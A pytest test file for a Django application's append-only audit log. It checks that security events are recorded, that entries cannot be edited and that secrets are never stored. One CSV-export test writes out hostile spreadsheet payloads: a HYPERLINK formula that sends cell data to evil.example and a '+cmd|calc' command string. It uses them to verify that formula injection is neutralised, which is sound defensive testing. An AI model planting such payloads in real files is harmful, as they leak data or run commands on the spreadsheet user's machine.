"""The audit log: one entry per security event, append-only, never a secret."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.urls import reverse

from coordination.organisation import permissions, services
from coordination.organisation.audit import Event, audit_record
from coordination.organisation.models import AuditEntry, Role
from tests.factories import TEST_PASSWORD, AgencyFactory, OfficialFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def official():
    return OfficialFactory(username="dewi")


@pytest.fixture
def admin():
    return OfficialFactory(username="root", role=Role.ADMINISTRATOR, is_staff=True)


def entries(event):
    return list(AuditEntry.objects.filter(event=event))


def test_sign_in_sign_out_and_failures_are_recorded(client, official):
    client.post(reverse("login"), {"username": "dewi", "password": "wrong"}, REMOTE_ADDR="10.1.2.3")
    client.post(
        reverse("login"),
        {"username": "dewi", "password": TEST_PASSWORD},
        HTTP_USER_AGENT="Firefox/140",
    )
    client.post(reverse("logout"))
    (failed,) = entries(Event.LOGIN_FAILED)
    assert failed.actor is None and failed.actor_username == "dewi"
    assert failed.ip_address == "10.1.2.3"
    (login,) = entries(Event.LOGIN)
    assert login.actor == official and login.user_agent == "Firefox/140"
    (logout,) = entries(Event.LOGOUT)
    assert logout.actor == official


def test_a_lockout_is_recorded(client, official, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT + 1):
        client.post(reverse("login"), {"username": "dewi", "password": "wrong"})
    lockout, *_ = entries(Event.LOCKOUT)
    assert lockout.actor_username == "dewi"


def test_token_creation_and_revocation_are_recorded_without_the_token(client, official):
    client.force_login(official)
    response = client.post(reverse("token_create"), {"name": "sync"})
    secret = response.context["new_token_secret"]
    token = official.api_tokens.get()
    client.post(reverse("token_revoke", args=[token.pk]))
    (created,) = entries(Event.TOKEN_CREATED)
    (revoked,) = entries(Event.TOKEN_REVOKED)
    assert created.target_id == revoked.target_id == str(token.pk)
    assert created.actor == revoked.actor == official
    dump = json.dumps(list(AuditEntry.objects.values()), default=str)
    assert secret not in dump and token.digest not in dump and TEST_PASSWORD not in dump


def test_role_membership_and_deactivation_changed_in_the_admin_are_recorded(client, admin):
    official = OfficialFactory(username="agus", agency=AgencyFactory(code="bandung"))
    other = AgencyFactory(code="bogor")
    client.force_login(admin)
    url = reverse("admin:coordination_official_change", args=[official.pk])
    form = client.get(url).context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.update(
        username="agus",
        agency=other.pk,
        role=Role.COORDINATOR,
        is_active="",
        language="id",
        work_days=json.dumps(official.work_days),
        reminder_minutes=json.dumps(official.reminder_minutes),
        work_start="08:00",
        work_end="16:00",
        date_joined_0="2026-01-01",
        date_joined_1="08:00:00",
    )
    data.pop("groups", None)
    data.pop("user_permissions", None)
    data.pop("last_login", None)
    data.pop("password", None)
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    (role,) = entries(Event.ROLE_CHANGED)
    assert role.details == {"old": "member", "new": "coordinator"} and role.actor == admin
    (membership,) = entries(Event.MEMBERSHIP_CHANGED)
    assert membership.details == {"old_agency": "bandung", "new_agency": "bogor"}
    (access,) = entries(Event.ACCESS_CHANGED)
    assert access.details == {"active": False}


def test_role_changes_through_the_service_are_recorded(admin, official):
    services.official_set_role(official=official, role=Role.COORDINATOR, by=admin)
    (role,) = entries(Event.ROLE_CHANGED)
    assert (role.actor, role.target_repr) == (admin, str(official))


def test_permission_denials_are_recorded_even_when_the_change_is_refused(official):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.official_set_role(official=official, role=Role.ADMINISTRATOR, by=official)
    (denied,) = entries(Event.PERMISSION_DENIED)
    assert denied.actor == official and denied.details["action"] == "change the role of"
    assert denied.target_id == str(official.pk)
    with pytest.raises(PermissionDenied):
        permissions.require(False, official=official, action="read", target="meeting 7")
    assert entries(Event.PERMISSION_DENIED)[0].details == {"action": "read", "on": "meeting 7"}


def test_revoking_someone_elses_token_is_a_recorded_denial(official):
    other = OfficialFactory()
    token, _raw = services.token_create(official=other, name="theirs")
    from coordination.platform.errors import NotFound

    with pytest.raises(NotFound):
        services.token_revoke(by=official, token_id=token.pk)
    assert entries(Event.PERMISSION_DENIED)[0].target_id == str(token.pk)


def test_exporting_the_audit_log_is_itself_recorded(client, admin, official):
    audit_record(Event.LOGIN, actor=official)
    client.force_login(admin)
    ids = list(AuditEntry.objects.values_list("pk", flat=True))
    response = client.post(
        reverse("admin:coordination_auditentry_changelist"),
        {"action": "export_csv", "_selected_action": ids},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["time", "event", "username"]
    assert any(row[1] == "login" and row[2] == "dewi" for row in rows[1:])
    (export,) = entries(Event.EXPORT)
    assert export.actor == admin and export.details["rows"] == len(ids)


def test_password_changes_are_recorded(client, official):
    client.force_login(official)
    client.post(
        reverse("password_change"),
        {
            "old_password": TEST_PASSWORD,
            "new_password1": "another-long-passphrase",
            "new_password2": "another-long-passphrase",
        },
    )
    assert entries(Event.PASSWORD_CHANGED)[0].actor == official


def test_the_log_is_append_only_through_the_orm(official):
    entry = audit_record(Event.LOGIN, actor=official)
    entry.event = Event.LOGOUT
    with pytest.raises(PermissionError):
        entry.save()
    with pytest.raises(PermissionError):
        entry.delete()
    with pytest.raises(PermissionError):
        AuditEntry.objects.filter(pk=entry.pk).update(event=Event.LOGOUT)
    with pytest.raises(PermissionError):
        AuditEntry.objects.all().delete()
    assert AuditEntry.objects.get(pk=entry.pk).event == Event.LOGIN


@pytest.mark.needs_postgres
def test_postgresql_itself_refuses_to_change_the_log(official):
    from django.db import DatabaseError, transaction

    entry = audit_record(Event.LOGIN, actor=official)
    for statement in (
        "UPDATE coordination_auditentry SET event = 'logout' WHERE id = %s",
        "DELETE FROM coordination_auditentry WHERE id = %s",
    ):
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
            connection.cursor().execute(statement, [entry.pk])
    assert AuditEntry.objects.get(pk=entry.pk).event == Event.LOGIN


@pytest.mark.parametrize("name", ["password", "token", "body", "otp_code", "session_key", "secret"])
def test_details_may_not_carry_secrets(official, name):
    with pytest.raises(ValueError, match="never logged"):
        audit_record(Event.LOGIN, actor=official, **{name: "x"})
    assert not AuditEntry.objects.exists()


def test_the_admin_view_filters_and_cannot_edit(client, admin, official):
    audit_record(Event.LOGIN, actor=official)
    audit_record(Event.EXPORT, actor=admin, what="x")
    client.force_login(admin)
    url = reverse("admin:coordination_auditentry_changelist")
    page = client.get(url, {"event__exact": "login"})
    assert page.status_code == 200
    # dewi's sign-in and the administrator's own; not the export.
    assert set(page.context["cl"].queryset.values_list("event", flat=True)) == {"login"}
    assert page.context["cl"].result_count == 2
    entry = AuditEntry.objects.first()
    change = client.post(reverse("admin:coordination_auditentry_change", args=[entry.pk]), {})
    assert change.status_code == 403
    assert AuditEntry.objects.get(pk=entry.pk).event == entry.event
    delete = client.post(
        reverse("admin:coordination_auditentry_delete", args=[entry.pk]), {"post": "yes"}
    )
    assert delete.status_code == 403
    assert AuditEntry.objects.filter(pk=entry.pk).exists()


def test_only_administrators_read_the_log(client, official):
    client.force_login(OfficialFactory(role=Role.COORDINATOR))
    response = client.get(reverse("admin:coordination_auditentry_changelist"))
    assert response.status_code == 302  # not staff: sent to the admin login


def test_the_csv_export_cannot_smuggle_a_spreadsheet_formula(client, admin):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    OfficialFactory(username="victim")
    audit_record(Event.LOGIN, username="victim", request=None, note=hostile)
    services.token_create(official=admin, name="+cmd|calc")
    client.force_login(admin)
    response = client.post(
        reverse("admin:coordination_auditentry_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(AuditEntry.objects.values_list("pk", flat=True)),
        },
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    details = [json.loads(row[7]) for row in rows[1:]]
    assert {"note": hostile} in details  # kept, as JSON text, not evaluated


def test_a_username_typed_that_nobody_has_is_not_recorded(client, official):
    client.post(reverse("login"), {"username": "my-secret-password", "password": "x"})
    (failed,) = entries(Event.LOGIN_FAILED)
    assert failed.actor_username == "" and failed.details == {"known_username": False}
    assert "my-secret-password" not in json.dumps(list(AuditEntry.objects.values()), default=str)


def test_officials_created_in_the_admin_are_recorded(client, admin):
    agency = AgencyFactory(code="gowa")
    client.force_login(admin)
    response = client.post(
        reverse("admin:coordination_official_add"),
        {
            "username": "baru",
            "first_name": "Pejabat",
            "last_name": "Baru",
            "email": "baru@example.test",
            "agency": agency.pk,
            "position_title": "Staf",
            "role": Role.ADMINISTRATOR,
            "password1": "a-long-passphrase-1",
            "password2": "a-long-passphrase-1",
            "usable_password": "true",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    (role,) = entries(Event.ROLE_CHANGED)
    assert role.details == {"old": None, "new": "administrator"} and role.actor == admin
    (membership,) = entries(Event.MEMBERSHIP_CHANGED)
    assert membership.details == {"old_agency": None, "new_agency": "gowa"}


def test_an_administrator_setting_a_password_is_recorded(client, admin, official):
    client.force_login(admin)
    response = client.post(
        f"/admin/coordination/official/{official.pk}/password/",
        {
            "password1": "set-by-the-admin-1",
            "password2": "set-by-the-admin-1",
            "usable_password": "true",
        },
    )
    assert response.status_code == 302
    (changed,) = entries(Event.PASSWORD_CHANGED)
    assert changed.actor == admin and changed.target_id == str(official.pk)


def test_the_administrators_own_password_change_is_recorded(client, admin):
    client.force_login(admin)
    response = client.post(
        "/admin/password_change/",
        {
            "old_password": TEST_PASSWORD,
            "new_password1": "a-new-admin-passphrase",
            "new_password2": "a-new-admin-passphrase",
        },
    )
    assert response.status_code == 302 and response["Location"] == "/admin/password_change/done/"
    assert entries(Event.PASSWORD_CHANGED)[0].actor == admin


def test_granting_superuser_is_recorded(admin, official):
    official.is_superuser = True
    official.save()
    services.official_apply_access(official=official, by=admin, previous={"is_superuser": False})
    (granted,) = entries(Event.ROLE_CHANGED)
    assert granted.details == {"superuser": True}


def test_an_api_call_before_the_second_factor_is_a_recorded_denial(client, official):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    TOTPDevice.objects.create(user=official, name="Rakor", confirmed=True)
    client.force_login(official)
    assert client.get("/api/v1/me").status_code == 403
    (denied,) = entries(Event.PERMISSION_DENIED)
    assert denied.actor == official
